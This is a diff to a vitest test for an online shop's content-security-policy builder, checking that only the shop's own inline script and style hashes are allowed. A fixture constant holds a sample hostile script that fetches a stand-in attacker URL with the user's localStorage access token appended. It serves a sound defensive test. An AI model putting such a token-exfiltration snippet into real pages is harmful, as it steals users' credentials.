@@ -1,7 +1,7 @@
 import { createHash } from "node:crypto";
 import { expect, test } from "vitest";
 import { noOrigins } from "../../kernel/payment-origins.ts";
-import { policyFor } from "./content-security-policy.server.ts";
+import { ownInlineOf, policyFor } from "./content-security-policy.server.ts";
 
 const own = "document.documentElement.dataset.theme = 'dark'";
 const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
@@ -15,7 +15,9 @@ function hashOf(script: string): string {
 }
 
 function directive(name: string): string[] {
-	const policy = policyFor(page, { scripts: [own], styles: [ownStyle] }, origins).split("; ");
+	const policy = policyFor(page, ownInlineOf(`<script>${own}</script>`, ownStyle), origins).split(
+		"; ",
+	);
 	return (
 		policy
 			.find((one) => one.startsWith(`${name} `))
@@ -24,7 +26,7 @@ function directive(name: string): string[] {
 	);
 }
 
-test("only the shop's own inline scripts and styles count, by their hashes", () => {
+test("only the shop's own inline scripts and style count, by their hashes", () => {
 	expect(directive("script-src")).toEqual(["'self'", hashOf(own)]);
 	expect(directive("style-src")).toEqual(["'self'", hashOf(ownStyle)]);
 });
